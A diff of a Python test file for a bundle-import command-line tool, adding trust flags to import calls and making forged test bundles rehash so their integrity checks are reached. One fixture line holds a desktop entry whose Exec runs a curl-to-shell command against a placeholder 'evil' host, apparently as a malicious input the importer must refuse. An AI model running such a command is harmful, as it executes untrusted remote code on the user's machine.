@@ -29,7 +29,7 @@ from inspect_tui.domain.models import Occupant
 from inspect_tui.store import delete, get, open_db, save
 from inspect_tui.store.blobs import MAX_ATTACHMENT_BYTES
 from inspect_tui.store.bundles import snapshot_names
-from inspect_tui.sync import BundleError, import_bundles, limits, zipguard
+from inspect_tui.sync import BundleError, limits, zipguard
 from inspect_tui.sync.export import export_bundle
 from inspect_tui.sync.keys import set_central_key
 from inspect_tui.sync.layout import blob_member, member_limit
@@ -49,6 +49,7 @@ from tests.helpers.bundles import (
     run,
     settle,
 )
+from tests.helpers.bundles import trusting_import as import_bundles
 
 DESKTOP = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n"
 
@@ -79,6 +80,7 @@ class Lead:
 
     def forge(self, **kwargs: object) -> bytes:
         info = {"Bundle-Id": str(uuid.uuid4()), **kwargs.pop("info", {})}  # type: ignore[dict-item]
+        kwargs.setdefault("rehash", True)  # ids that verify, so the checks under test are reached
         return rebag(self.good, self.source_key, info=info, **kwargs)  # type: ignore[arg-type]
 
     def unchanged(self) -> None:
@@ -106,7 +108,7 @@ def lead(tmp_path: Path) -> Iterator[Lead]:
 
 
 def refused(cli: CliRunner, lead: Lead, bundle: Path, expected: str) -> str:
-    code, output = run(cli, "--db", str(lead.db_path), "import", str(bundle))
+    code, output = run(cli, "--db", str(lead.db_path), "import", "--trust-new", "--trust-role", "lead", str(bundle))
     assert code == 1, output
     lines = output.strip().splitlines()
     assert len(lines) == 1 and lines[0].startswith("Error: "), output
@@ -305,7 +307,9 @@ def test_the_last_three_snapshots_are_kept_owner_only(cli: CliRunner, tmp_path: 
     snapshot = Path(f"{tmp_path / 'target.db'}.pre-import.sqlite")
     names = snapshot_names(snapshot, 5)
     for number, bundle in enumerate(bundles):
-        code, output = run(cli, "--db", str(tmp_path / "target.db"), "import", str(bundle))
+        code, output = run(
+            cli, "--db", str(tmp_path / "target.db"), "import", "--trust-new", "--trust-role", "lead", str(bundle)
+        )
         assert code == 0, output
         assert [n.exists() for n in names[:3]] == [True] * min(number + 1, 3) + [False] * (2 - min(number, 2))
     assert not names[3].exists() and not names[4].exists()
@@ -315,7 +319,18 @@ def test_the_last_three_snapshots_are_kept_owner_only(cli: CliRunner, tmp_path: 
     assert conn.execute("SELECT COUNT(*) FROM bundles").fetchone()[0] == 4
     conn.close()
     more = _edit_and_export(source, tmp_path, 9)
-    code, output = run(cli, "--db", str(tmp_path / "target.db"), "import", "--keep-snapshots", "1", str(more))
+    code, output = run(
+        cli,
+        "--db",
+        str(tmp_path / "target.db"),
+        "import",
+        "--trust-new",
+        "--trust-role",
+        "lead",
+        "--keep-snapshots",
+        "1",
+        str(more),
+    )
     assert code == 0, output
     assert snapshot.exists() and not names[1].exists() and not names[2].exists()
     source.db.conn.close()
@@ -351,7 +366,9 @@ def test_removing_an_occupant_erases_their_personal_data_here_and_in_the_next_bu
     assert BSNS[0] not in text and EMAIL not in text and '"deleted":true' in text
     source.db.conn.close()
     assert not _bsn_anywhere(tmp_path / "source.db", BSNS[0])
-    code, output = run(cli, "--db", str(tmp_path / "target.db"), "import", str(second.path))
+    code, output = run(
+        cli, "--db", str(tmp_path / "target.db"), "import", "--trust-new", "--trust-role", "lead", str(second.path)
+    )
     assert code == 0, output
     assert "personal data of removed occupants was erased" in output
     assert target.db.execute("SELECT COUNT(*) FROM occupants WHERE id = ?", [source.ids["jan"]]).fetchone()[0] == 0
@@ -395,11 +412,15 @@ def test_plaintext_personal_data_arriving_where_a_central_key_is_set_is_warned_a
     with db.atomic():
         set_central_key(db, bytes(PrivateKey.generate().public_key).hex())
     db.conn.close()
-    code, output = run(cli, "--db", str(tmp_path / "central.db"), "import", str(full_bundle))
+    code, output = run(
+        cli, "--db", str(tmp_path / "central.db"), "import", "--trust-new", "--trust-role", "lead", str(full_bundle)
+    )
     assert code == 0, output
     assert "WARNING: " in output and "UNENCRYPTED, although this database has a central key" in output
     code, output = run(cli, "--db", str(tmp_path / "plain.db"), "init")
-    code, output = run(cli, "--db", str(tmp_path / "plain.db"), "import", str(full_bundle))
+    code, output = run(
+        cli, "--db", str(tmp_path / "plain.db"), "import", "--trust-new", "--trust-role", "lead", str(full_bundle)
+    )
     assert code == 0 and "WARNING" not in output, output
 
 
@@ -429,7 +450,7 @@ def test_a_second_writer_waits_for_the_first_instead_of_failing(tmp_path: Path, 
     try:
         assert holder.stdout is not None and holder.stdout.readline().strip() == "locked"
         done = subprocess.run(
-            [*_CLI, "--db", str(db_path), "import", str(full_bundle)],
+            [*_CLI, "--db", str(db_path), "import", "--trust-new", "--trust-role", "lead", str(full_bundle)],
             capture_output=True,
             text=True,
             env=_ENV,
@@ -448,7 +469,7 @@ def test_a_second_writer_waits_for_the_first_instead_of_failing(tmp_path: Path, 
 def test_two_imports_of_the_same_bundle_at_once_both_succeed(tmp_path: Path, full_bundle: Path) -> None:
     db_path = tmp_path / "lead.db"
     make_device(db_path).db.conn.close()
-    command = [*_CLI, "--db", str(db_path), "import", str(full_bundle)]
+    command = [*_CLI, "--db", str(db_path), "import", "--trust-new", "--trust-role", "lead", str(full_bundle)]
     first = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=_ENV)
     second = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=_ENV)
     results = [p.communicate(timeout=60) for p in (first, second)]
@@ -475,7 +496,18 @@ def test_trusted_keys_from_dev_zero_is_one_clear_line(tmp_path: Path, full_bundl
     db_path = tmp_path / "lead.db"
     make_device(db_path).db.conn.close()
     done = subprocess.run(
-        [*_CLI, "--db", str(db_path), "import", "--trusted-keys", "/dev/zero", str(full_bundle)],
+        [
+            *_CLI,
+            "--db",
+            str(db_path),
+            "import",
+            "--trust-new",
+            "--trust-role",
+            "lead",
+            "--trusted-keys",
+            "/dev/zero",
+            str(full_bundle),
+        ],
         capture_output=True,
         text=True,
         env=_ENV,
@@ -501,6 +533,9 @@ def test_a_closed_stdout_after_a_committed_import_is_not_an_error(tmp_path: Path
             "--db",
             str(db_path),
             "import",
+            "--trust-new",
+            "--trust-role",
+            "lead",
             str(full_bundle),
         ],
         capture_output=True,
